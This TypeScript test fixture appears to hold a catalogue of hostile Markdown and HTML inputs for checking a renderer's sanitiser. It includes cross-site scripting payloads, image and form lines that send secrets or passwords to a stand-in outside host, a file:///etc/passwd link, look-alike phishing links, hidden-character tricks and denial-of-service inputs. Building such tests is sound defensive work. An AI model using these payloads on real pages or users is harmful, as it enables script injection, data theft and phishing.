// What a hostile model, tool or file may write. Each entry is drawn in the tests of
// the parser and in a real browser: no dialog opens, nothing runs, nothing is
// styled, and no request leaves the origin. "outside" is an address to look for.

export const outside = "https://outside.example/";
const o = outside;

/** fence builds a block of code of a language. */
const fence = (language: string, text: string) => `\`\`\`${language}\n${text}\n\`\`\``;

export const payloads: Record<string, string> = {
  // Images
  "image": `![x](${o}p.png)`,
  "image with the answer in its address": `![](${o}?q=secret%20text)`,
  "image by reference": `![x][r]\n\n[r]: ${o}p.png`,
  "image in a link": `[![x](${o}p.png)](${o})`,
  "image in a table": `| a |\n|---|\n| ![x](${o}p.png) |`,
  "image in a heading": `# ![x](${o}p.png)`,
  "image without a scheme": "![x](//outside.example/p.png)",
  "image by data": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
  "image by blob": "![x](blob:https://outside.example/1)",
  "image of our own API": "![x](/api/v1/session)",
  "image with an event in its title": `![x](${o}p.png "x\\" onerror=alert(1) y=\\"")`,
  "image as HTML": `<img src="${o}p.png" onerror="alert(1)">`,
  "image as HTML, broken": `<img src=x onerror=alert(1)//`,
  "picture with sources": `<picture><source srcset="${o}p.png"><img srcset="${o}q.png 2x"></picture>`,

  // Scripts
  "script": "<script>alert(1)</script>",
  "script from outside": `<script src="${o}x.js"></script>`,
  "script, split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "script in a comment that ends early": "<!--><script>alert(1)</script>-->",
  "script in CDATA": "<![CDATA[<script>alert(1)</script>]]>",
  "script in a processing instruction": "<?xml version='1.0'?><script>alert(1)</script>",
  "event of a div": `<div onmouseover="alert(1)" onfocus=alert(1) tabindex=0 autofocus>x</div>`,
  "details that open": "<details open ontoggle=alert(1)>x</details>",
  "template": "<template><script>alert(1)</script></template>",
  "noscript that breaks out": `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  "math that breaks out": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",

  // Links
  "link that runs": "[x](javascript:alert(1))",
  "link that runs, in other letters": "[x](JaVaScRiPt:alert(1))",
  "link that runs, with entities": "[x](&#106;avascript&colon;alert(1))",
  "link that runs, with a line feed": "[x](java&#10;script:alert(1))",
  "link that runs, behind a control character": "[x](&#1;javascript:alert(1))",
  "link that runs, by reference": "[x][r]\n\n[r]: javascript:alert(1)",
  "link that runs, in angle brackets": "<javascript:alert(1)>",
  "link by data": "[x](data:text/html,<script>alert(1)</script>)",
  "link by vbscript": "[x](vbscript:msgbox(1))",
  "link to a file": "[x](file:///etc/passwd)",
  "link by blob": "[x](blob:https://outside.example/1)",
  "link to another program": "[x](ms-msdt:/id) [y](irc://outside.example/) [z](xmpp:a@b.c) [s](steam://run/1)",
  "link into our own pages": "[x](/admin/users) [y](../../api/v1/session) [z](#main) [q](?a=b)",
  "link without a scheme": "[x](//outside.example/)",
  "link with a name that looks like another": "[https://bank.example](https://outside.example/)",
  "link with a password": "[x](https://bank.example@outside.example/)",
  "link with letters of another script": "[x](https://b\u0430nk.example/)",
  "link as HTML": `<a href="javascript:alert(1)" target="_self">x</a>`,
  "link with an event in its title": `[x](${o} "t\\" onclick=\\"alert(1)")`,
  "address that is found in text": `${o}?auto www.outside.example a@outside.example`,
  "ping and prefetch": `<a href="${o}" ping="${o}">x</a><link rel="prefetch" href="${o}"><link rel=stylesheet href="${o}x.css">`,

  // SVG, forms, frames, style, media
  "SVG that runs": "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "SVG that animates an address": "<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>",
  "SVG with a picture": `<svg><image href="${o}p.png" /><use href="${o}s.svg#x" /></svg>`,
  "SVG with foreign parts": `<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>`,
  "form": `<form action="${o}" method=post><input name=password type=password><button>Sign in</button></form>`,
  "button with an action of its own": `<button formaction="javascript:alert(1)" form=x>x</button><input type=image src="${o}p.png">`,
  "frame": `<iframe src="${o}"></iframe><frameset><frame src="${o}"></frameset>`,
  "frame with a document of its own": `<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>`,
  "object and embed": `<object data="${o}x.swf"></object><embed src="${o}x.swf"><applet code=x>`,
  "media": `<video src="${o}v.mp4" poster="${o}p.png" autoplay></video><audio src="${o}a.mp3" autoplay></audio>`,
  "style": `<style>@import "${o}x.css"; body{display:none}</style>`,
  "style of an element": `<p style="position:fixed;inset:0;background:url(${o}p.png)">x</p>`,
  "class and id of ours": `<div class="fixed inset-0 z-50" id="root">x</div>`,
  "base and refresh": `<base href="${o}"><meta http-equiv="refresh" content="0;url=${o}">`,
  "dialog": "<dialog open>Your session has ended. <input type=password></dialog>",
  "attributes on Markdown": `[x](${o}){: onclick="alert(1)" style="color:red"}\n{: .fixed #root }`,

  // Direction, hidden and odd characters
  "overrides of direction": "invoice\u202Egpj.exe and \u2066x\u2069 and \u202Dy\u202C",
  "overrides in code": fence("js", "if (admin\u202E \u2066// only admins\u2069 \u2066) { ok() }"),
  "overrides in a link": "[\u202Eelpmaxe.knab//:sptth](https://outside.example/\u202Ex)",
  "hidden characters": "a\u200Bb\u2060c\uFEFFd\u00ADe \u{E0041}\u{E0042}",
  "piled marks": `Z${"\u0335\u0321\u0489".repeat(500)}algo`,
  "NUL and controls": "a\u0000b\u0007c\u001B[31md\u009B",
  "lone surrogates": "a\uD800b\uDC00c",

  // Weight
  "huge table": `| a | b |\n|---|---|\n${"| x | y |\n".repeat(3_000)}`,
  "wide table": `|${" a |".repeat(400)}\n|${"---|".repeat(400)}\n|${" b |".repeat(400)}`,
  "endless list": "- x\n".repeat(3_000),
  "endless nesting of lists": `${"- ".repeat(5_000)}x`,
  "endless nesting, line by line": Array.from({ length: 300 }, (_, i) => `${"  ".repeat(i)}- x`).join("\n"),
  "endless quotes": `${">".repeat(10_000)} x`,
  "endless brackets": "[".repeat(20_000),
  "endless brackets with ends": `${"[".repeat(5_000)}x${"](y)".repeat(5_000)}`,
  "endless stars": "*a **b ".repeat(3_000),
  "endless underscores": "_".repeat(30_000),
  "endless backticks": "`a``b```c".repeat(2_000),
  "endless entities": "&#x1F4A9;&amp;&lt".repeat(2_000),
  "endless HTML": "<a><b>".repeat(5_000),
  "endless definitions": Array.from({ length: 1_000 }, (_, i) => `[r${i}]: ${o}${i}`).join("\n") + "\n\n[r1] [r2]",
  "endless footnotes": Array.from({ length: 300 }, (_, i) => `x[^${i}]\n\n[^${i}]: y`).join("\n\n"),
  "one endless word": "x".repeat(50_000),
  "endless fence": `\`\`\`js\n${"let x = 1;\n".repeat(5_000)}`,
  "fences in fences": "````\n```\n````\n```\n~~~\n```\n",

  // Diagrams
  "diagram that sets itself free": fence("mermaid", `%%{init: {"securityLevel": "loose", "themeCSS": "*{background:url(${o}p.png)}"}}%%\ngraph TD; A-->B`),
  "diagram with a head of settings": fence("mermaid", `---\nconfig:\n  securityLevel: loose\n  themeCSS: "@import url(${o}x.css)"\n---\ngraph TD; A-->B`),
  "diagram that runs": fence("mermaid", `graph TD\nA-->B\nclick A "javascript:alert(1)"\nclick B call alert(1)`),
  "diagram with HTML": fence("mermaid", `graph TD\nA["<img src='${o}p.png' onerror='alert(1)'>"]-->B["<script>alert(1)</script><iframe src='${o}'>"]`),
  "diagram with a picture": fence("mermaid", `flowchart TD\nA@{ img: "${o}p.png", label: "x" } --> B@{icon: "fa:user"}`),
  "diagram with style": fence("mermaid", `graph TD\nA-->B\nstyle A fill:url(${o}p.png)\nclassDef x background:url(${o}q.png),color:red\nclass B x\nlinkStyle 0 stroke:url(${o}r.png)`),
  "diagram of a sequence with links": fence("mermaid", `sequenceDiagram\nA->>B: <img src=x onerror=alert(1)>\nlink A: x @ javascript:alert(1)\nlinks A: {"x": "${o}"}`),
  "diagram without end": fence("mermaid", `graph TD\n${Array.from({ length: 3_000 }, (_, i) => `A${i}-->A${i + 1}`).join("\n")}`),
  "diagram that is none": fence("mermaid", "<svg onload=alert(1)>"),

  // Formulas
  "formula that links": "$$\\href{javascript:alert(1)}{x} \\url{javascript:alert(1)}$$",
  "formula with a picture": `$$\\includegraphics{${o}p.png}$$`,
  "formula with HTML": "$$\\htmlStyle{position:fixed;inset:0}{x} \\htmlId{root}{x} \\htmlClass{fixed}{x} \\htmlData{a=b}{x}$$",
  "formula that covers the page": "$$\\rule{9999em}{9999em} \\kern{-9999em} \\raisebox{-9999em}{x}$$",
  "formula without end": "$$\\def\\a{\\a\\a}\\a$$",
  "formula that grows": "$$\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}}}}$$",
  "formula with text that is HTML": "$$\\text{<img src=x onerror=alert(1)>}$$ and \\(\\text{<script>alert(1)</script>}\\)",
};

/** wellFormed has one of everything; cut at each point it is broken in every way. */
export const wellFormed = [
  "# Title *one*",
  `A [link](${o}a?b=c "t"), **bold**, \`code\`, ~~gone~~, ![pic](${o}p.png) and <b onclick="alert(1)">html</b>.`,
  "1. one\n   - two\n     > three",
  "| a | b |\n|:--|--:|\n| 1 | `2` |",
  fence("js", "alert('not run')"),
  "$$x^2$$",
  "- [x] done",
  "Note[^1]\n\n[^1]: foot",
].join("\n\n");
